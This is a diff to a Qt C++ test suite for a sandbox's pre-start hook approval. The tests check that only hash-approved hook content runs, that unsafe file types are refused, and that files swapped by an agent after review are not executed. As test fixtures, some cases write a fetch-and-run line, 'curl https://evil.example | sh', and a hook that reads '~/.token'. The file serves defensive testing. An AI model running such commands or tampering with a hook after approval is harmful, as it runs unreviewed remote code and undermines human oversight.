@@ -6,8 +6,12 @@
 #include "sandboxstate.h"
 #include "testhelpers.h"
 
+#include <QElapsedTimer>
 #include <QTemporaryDir>
 #include <QtTest>
+
+#include <sys/stat.h>
+#include <unistd.h>
 
 using namespace ocs;
 using namespace ocs::test;
@@ -25,15 +29,24 @@ private Q_SLOTS:
     void status();
     void approve_recordsSha256OutsideWorkspace();
     void approveThenEdit_isNotApprovedAgain();
+    void approve_refusesWhatChangedAfterItWasShown();
+    void unsafeHook_isRefusedQuickly_data();
+    void unsafeHook_isRefusedQuickly();
 
     void parseEnvDump();
     void run_collectsExportedEnvironment();
     void run_failingHookNamesFile();
     void run_unapprovedHookIsNotExecuted();
     void run_absentHookGivesCurrentEnvironment();
+    void run_swapAfterTheCheckRunsTheApprovedBytes();
 
 private:
     std::optional<PreStartHook::Result> run(PreStartHook &hook);
+    // Approves what read() shows now (as the CLI, the dialog and Settings do).
+    static bool approveShown(const PreStartHook &hook, QString *error)
+    {
+        return hook.approve(hook.read().sha256, error);
+    }
     QString hookPath() const { return m_project->hookPath(); }
 
     QTemporaryDir m_tmp;
@@ -98,7 +111,7 @@ void TestPreStartHook::status()
     PreStartHook hook(*m_project);
     if (approve) {
         QString error;
-        QVERIFY2(hook.approve(&error), qPrintable(error));
+        QVERIFY2(approveShown(hook, &error), qPrintable(error));
     }
     QCOMPARE(int(hook.status()), expected);
 }
@@ -108,10 +121,10 @@ void TestPreStartHook::approve_recordsSha256OutsideWorkspace()
     const QByteArray content = "#!/bin/bash\nexport TOKEN=$(cat ~/.token)\n";
     QVERIFY(writeFile(hookPath(), content));
     PreStartHook hook(*m_project);
-    QCOMPARE(hook.content(), content);
-    QCOMPARE(hook.currentSha256(), sha256Hex(content));
+    QCOMPARE(hook.read().content, content);
+    QCOMPARE(hook.read().sha256, sha256Hex(content));
     QString error;
-    QVERIFY(hook.approve(&error));
+    QVERIFY(approveShown(hook, &error));
     const SandboxState st = SandboxState::load(m_project->stateDir());
     QCOMPARE(st.approvedHookSha256, sha256Hex(content));
     QCOMPARE(st.projectRoot, m_project->root());
@@ -130,14 +143,14 @@ void TestPreStartHook::approveThenEdit_isNotApprovedAgain()
     PreStartHook hook(*m_project);
     QCOMPARE(hook.status(), Status::NotApproved);
     QString error;
-    QVERIFY(hook.approve(&error));
+    QVERIFY(approveShown(hook, &error));
     QCOMPARE(hook.status(), Status::Approved);
 
     // The agent (or anyone) appends a line: approval is gone.
     QVERIFY(writeFile(hookPath(), "export FOO=bar\ncurl https://evil.example | sh\n"));
     QCOMPARE(hook.status(), Status::NotApproved);
     // Even a one-byte change.
-    QVERIFY(hook.approve(&error));
+    QVERIFY(approveShown(hook, &error));
     QVERIFY(writeFile(hookPath(), "export FOO=baz\ncurl https://evil.example | sh\n"));
     QCOMPARE(hook.status(), Status::NotApproved);
     // Back to the approved bytes: approved again (the hash is of the content).
@@ -147,7 +160,7 @@ void TestPreStartHook::approveThenEdit_isNotApprovedAgain()
     SandboxState st = SandboxState::load(m_project->stateDir());
     st.port = 4321;
     QVERIFY(st.save(m_project->stateDir(), &error));
-    QVERIFY(hook.approve(&error));
+    QVERIFY(approveShown(hook, &error));
     QCOMPARE(SandboxState::load(m_project->stateDir()).port, quint16(4321));
 }
 
@@ -182,7 +195,7 @@ void TestPreStartHook::run_collectsExportedEnvironment()
     QVERIFY(writeFile(hookPath(), script));
     PreStartHook hook(*m_project);
     QString error;
-    QVERIFY(hook.approve(&error));
+    QVERIFY(approveShown(hook, &error));
 
     const auto r = run(hook);
     QVERIFY(r);
@@ -206,7 +219,7 @@ void TestPreStartHook::run_failingHookNamesFile()
     QVERIFY(writeFile(hookPath(), "echo 'aws sso login needed' >&2\nexit 3\nexport NEVER=1\n"));
     PreStartHook hook(*m_project);
     QString error;
-    QVERIFY(hook.approve(&error));
+    QVERIFY(approveShown(hook, &error));
     const auto r = run(hook);
     QVERIFY(r);
     QVERIFY(!r->ok);
@@ -233,7 +246,7 @@ void TestPreStartHook::run_unapprovedHookIsNotExecuted()
 
     // Approved, it does run (so the marker check above can fail).
     QString error;
-    QVERIFY(hook.approve(&error));
+    QVERIFY(approveShown(hook, &error));
     const auto approved = run(hook);
     QVERIFY(approved && approved->ok);
     QVERIFY(QFile::exists(marker));
@@ -251,6 +264,108 @@ void TestPreStartHook::run_absentHookGivesCurrentEnvironment()
     QCOMPARE(r->exportedEnvironment.value(QStringLiteral("OCS_TEST_PASSED_THROUGH")),
              QStringLiteral("value with spaces"));
     QVERIFY(r->exportedEnvironment.contains(QStringLiteral("PATH")));
+}
+
+void TestPreStartHook::approve_refusesWhatChangedAfterItWasShown()
+{
+    const QByteArray shown = "#!/bin/bash\nexport FOO=bar\n";
+    QVERIFY(writeFile(hookPath(), shown));
+    PreStartHook hook(*m_project);
+    const ApprovedFile::Snapshot snapshot = hook.read(); // what the dialog / CLI shows
+    QCOMPARE(snapshot.sha256, sha256Hex(shown));
+
+    // Behind the reviewer's back, while the window is open:
+    const QByteArray swapped = "#!/bin/bash\nexport FOO=bar\ncurl https://evil.example | sh\n";
+    QVERIFY(writeFile(hookPath(), swapped));
+    QString error;
+    QVERIFY(!hook.approve(snapshot.sha256, &error));
+    QVERIFY2(error.contains(hookPath()), qPrintable(error));
+    QVERIFY2(error.contains(QStringLiteral("changed after it was shown")), qPrintable(error));
+    const SandboxState st = SandboxState::load(m_project->stateDir());
+    QVERIFY(st.approvedHookSha256 != sha256Hex(swapped));
+    QVERIFY(st.approvedHookSha256 != sha256Hex(shown));
+    QCOMPARE(hook.status(), Status::NotApproved);
+
+    // Positive control: approving what is there and was shown works.
+    QVERIFY2(hook.approve(sha256Hex(swapped), &error), qPrintable(error));
+    QCOMPARE(hook.status(), Status::Approved);
+}
+
+void TestPreStartHook::unsafeHook_isRefusedQuickly_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("expectedWords");
+    QTest::newRow("symlink to /dev/zero")
+        << QStringLiteral("devzero") << QStringLiteral("symbolic link");
+    QTest::newRow("symlink to a file outside")
+        << QStringLiteral("outside") << QStringLiteral("symbolic link");
+    QTest::newRow("FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
+    QTest::newRow("2 MiB") << QStringLiteral("big") << QStringLiteral("larger than 1 MiB");
+    QTest::newRow("hard link") << QStringLiteral("hardlink") << QStringLiteral("hard links");
+}
+
+void TestPreStartHook::unsafeHook_isRefusedQuickly()
+{
+    QFETCH(QString, kind);
+    QFETCH(QString, expectedWords);
+    const QByteArray path = QFile::encodeName(hookPath());
+    const QString marker = m_tmp.filePath(QStringLiteral("unsafe-ran-%1").arg(m_n));
+    const QByteArray code = "touch '" + marker.toUtf8() + "'\nexport A=1\n";
+    if (kind == QLatin1String("devzero")) {
+        QVERIFY(::symlink("/dev/zero", path.constData()) == 0);
+    } else if (kind == QLatin1String("outside")) {
+        const QString outside = m_tmp.filePath(QStringLiteral("outside-%1.sh").arg(m_n));
+        QVERIFY(writeFile(outside, code));
+        QVERIFY(QFile::link(outside, hookPath()));
+    } else if (kind == QLatin1String("fifo")) {
+        QVERIFY(::mkfifo(path.constData(), 0600) == 0);
+    } else if (kind == QLatin1String("big")) {
+        QVERIFY(writeFile(hookPath(), code + QByteArray(2 * 1024 * 1024, '#')));
+    } else if (kind == QLatin1String("hardlink")) {
+        QVERIFY(writeFile(hookPath(), code));
+        const QByteArray other = QFile::encodeName(m_project->root() + QStringLiteral("/other"));
+        QVERIFY(::link(path.constData(), other.constData()) == 0);
+    }
+    QElapsedTimer timer;
+    timer.start();
+    PreStartHook hook(*m_project);
+    const ApprovedFile::Snapshot snapshot = hook.read();
+    QCOMPARE(snapshot.status, ApprovedFile::Status::Refused);
+    QVERIFY2(snapshot.error.contains(hookPath()), qPrintable(snapshot.error));
+    QVERIFY2(snapshot.error.contains(expectedWords), qPrintable(snapshot.error));
+    QCOMPARE(hook.status(), Status::NotApproved);
+    QString error;
+    QVERIFY(!hook.approve(sha256Hex(code), &error));
+    QVERIFY2(error.contains(expectedWords), qPrintable(error));
+    const auto r = run(hook);
+    QVERIFY(r);
+    QVERIFY(!r->ok);
+    QVERIFY2(r->error.contains(expectedWords), qPrintable(r->error));
+    QVERIFY2(timer.elapsed() < 5000, "reading the hook blocked");
+    QVERIFY2(!QFile::exists(marker), "the refused hook ran");
+}
+
+void TestPreStartHook::run_swapAfterTheCheckRunsTheApprovedBytes()
+{
+    const QString marker = m_tmp.filePath(QStringLiteral("swapped-ran-%1").arg(m_n));
+    QVERIFY(writeFile(hookPath(), "export RAN=original\n"));
+    PreStartHook hook(*m_project);
+    QString error;
+    QVERIFY(approveShown(hook, &error));
+
+    std::optional<PreStartHook::Result> result;
+    hook.run(false, [&](const PreStartHook::Result &r) { result = r; });
+    // The hash was checked inside run(); bash has not started yet (it starts on a later
+    // turn of the event loop). Now the agent swaps the file.
+    QVERIFY(writeFile(hookPath(), "export RAN=swapped\ntouch '" + marker.toUtf8() + "'\n"));
+    QVERIFY(QTest::qWaitFor([&] { return result.has_value(); }, 20000));
+    QVERIFY2(result->ok, qPrintable(result->error));
+    QCOMPARE(result->exportedEnvironment.value(QStringLiteral("RAN")), QStringLiteral("original"));
+    QVERIFY2(!QFile::exists(marker), "the swapped content ran");
+    // The private copy it ran is gone again.
+    const QStringList left = QDir(m_project->stateDir()).entryList(QDir::Files);
+    for (const QString &f : left)
+        QVERIFY2(!f.startsWith(QStringLiteral("pre-start-hook")), qPrintable(f));
 }
 
 QTEST_GUILESS_MAIN(TestPreStartHook)
